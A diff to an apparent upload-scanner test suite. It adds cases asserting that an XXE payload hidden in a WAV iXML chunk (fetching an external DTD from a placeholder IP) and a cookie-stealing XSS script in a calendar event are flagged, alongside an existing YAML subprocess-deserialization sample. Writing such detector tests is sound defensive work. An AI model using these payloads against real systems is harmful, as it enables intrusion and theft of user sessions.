@@ -124,6 +124,20 @@ describe('multipart part names, spelt as lenient parsers (PHP among them) accept
     // YAML a loader builds objects from: its tags are read, its ordinary settings left alone
     expect(uploaded('settings.yaml', 'application/octet-stream', '!!python/object/apply:subprocess.Popen\n- [id]\n')).toContain('Deserialization@upload');
     expect(uploaded('settings.yml', 'application/x-yaml', 'theme: dark\nlanguage: en\nitems:\n  - a\n  - b\n')).toEqual([]);
+    // XML a media file carries, read by a metadata parser (a WAV's iXML chunk)
+    expect(
+      uploaded(
+        'payload.wav',
+        'audio/wav',
+        'RIFF\x10\x00\x00\x00WAVEiXML\x80\x00\x00\x00<?xml version="1.0"?><!DOCTYPE ixml [<!ENTITY % x SYSTEM "http://203.0.113.9/e.dtd"> %x;]><ixml/>\x00\x01',
+      ),
+    ).toContain('Xxe@upload');
+    expect(uploaded('song.wav', 'audio/wav', 'RIFF\x10\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x02\x00')).toEqual([]);
+    // Calendars and contacts an import stores and shows again
+    expect(
+      uploaded('invite.ics', 'text/calendar', 'BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:<script>alert(document.cookie)</script>\nEND:VEVENT\nEND:VCALENDAR'),
+    ).toContain('Xss@upload');
+    expect(uploaded('team.ics', 'text/calendar', 'BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:Q3 planning (room 4 <-> 5)\nEND:VEVENT\nEND:VCALENDAR')).toEqual([]);
   });
 });
 
